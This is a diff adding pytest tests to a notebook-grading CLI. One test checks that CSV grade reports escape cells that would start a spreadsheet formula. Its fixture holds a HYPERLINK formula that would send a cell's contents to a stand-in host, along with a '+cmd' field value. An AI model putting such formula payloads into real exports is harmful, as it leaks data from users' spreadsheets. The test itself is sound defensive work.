@@ -17,6 +17,8 @@ import pytest
 
 from minillm.cli.main import main
 from minillm.course.grading import (
+    ExerciseGrade,
+    NotebookGrade,
     grade_notebook,
     grade_notebooks,
     graded_points,
@@ -495,3 +497,24 @@ def test_cli_exit_status_is_0_when_everything_was_graded_whatever_the_score(clas
 def test_cli_rejects_bad_options_before_grading(argv, capsys):
     assert main(argv) == 2
     assert capsys.readouterr().err.startswith("minillm grade: ")
+
+
+def test_cli_refuses_several_notebooks_without_a_reference(class_folder, capsys):
+    assert main(["grade", str(class_folder / "submissions")]) == 2
+    assert "several notebooks need --reference" in capsys.readouterr().err
+
+
+def test_csv_cells_never_start_a_formula(tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"details")'
+    exercise = ExerciseGrade(1, "double", "Double", 2, passed=False, error=f"{formula}: x")
+    exercise.flags.append("suspicious code: reads the call stack (_getframe)")
+    grade = NotebookGrade("a.ipynb", [exercise], student="+cmd", reference="ref.ipynb")
+    written = write_report([grade], tmp_path / "grades.csv")
+    for path in written:
+        rows = list(csv.reader(path.open(encoding="utf-8")))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], path
+        assert "'+cmd" in cells
+    detail = list(csv.DictReader(written[1].open(encoding="utf-8")))
+    assert detail[0]["error"] == f"'{formula}: x"
+    assert detail[0]["flags"] == "suspicious code: reads the call stack (_getframe)"
